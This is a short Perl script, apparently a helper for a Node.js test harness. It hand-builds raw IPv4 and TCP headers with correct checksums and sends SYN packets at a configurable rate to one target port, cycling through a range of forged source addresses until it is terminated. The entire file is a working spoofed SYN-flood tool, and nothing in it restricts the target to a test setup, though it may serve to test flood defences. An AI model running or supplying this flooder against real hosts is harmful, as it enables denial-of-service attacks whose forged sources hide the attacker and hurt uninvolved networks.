# Sends SYNs to one port from forged sources, in turn, until it is ended (SIGTERM): raw sockets, which Node does not have,
# with an IP header of our own. Arguments: address and port, IPv4; the first source, and how many; packets a second. Says
# when it begins; at its end how many it sent, in how many milliseconds.
use strict;
use warnings;
use Socket qw(AF_INET SOCK_RAW IPPROTO_RAW inet_pton pack_sockaddr_in);
use Time::HiRes qw(time sleep);

my ($address, $port, $first, $sources, $rate) = @ARGV;
my $to = inet_pton(AF_INET, $address);
my $from = unpack 'N', inet_pton(AF_INET, $first);
my ($TCP, $length, $sport, $flags, $window) = (6, 20, 40_000, 0x5002, 65_535);

# The checksum (RFC 9293, 3.1) over pseudo header and segment, as a sum of words without the source.
my $sum = $TCP + $length + $sport + $port + $flags + $window;
$sum += $_ for unpack 'n*', $to;

# raw(7): the kernel fills in length, identification and checksum of the IP header
sub packet {
    my ($source) = @_;
    my $check = $sum + ($source >> 16) + ($source & 0xffff);
    $check = ($check & 0xffff) + ($check >> 16) while $check > 0xffff;
    return pack('CCnnnCCnNa4', 0x45, 0, 0, 0, 0, 64, $TCP, 0, $source, $to)
        . pack('nnNNnnnn', $sport, $port, 0, 0, $flags, $window, 0xffff - $check, 0);
}

my $over = 0;
$SIG{TERM} = sub { $over = 1 };
socket my $socket, AF_INET, SOCK_RAW, IPPROTO_RAW or die "socket: $!\n";
my $peer = pack_sockaddr_in(0, $to);
$| = 1;
print "sending\n";
my ($start, $n) = (time, 0);
until ($over) {
    my $due = (time - $start) * $rate;
    for (; $n < $due; $n++) {
        send $socket, packet($from + $n % $sources), 0, $peer or die "send: $!\n";
    }
    sleep 0.001;
}
printf '{"sent":%d,"ms":%d}', $n, (time - $start) * 1000;
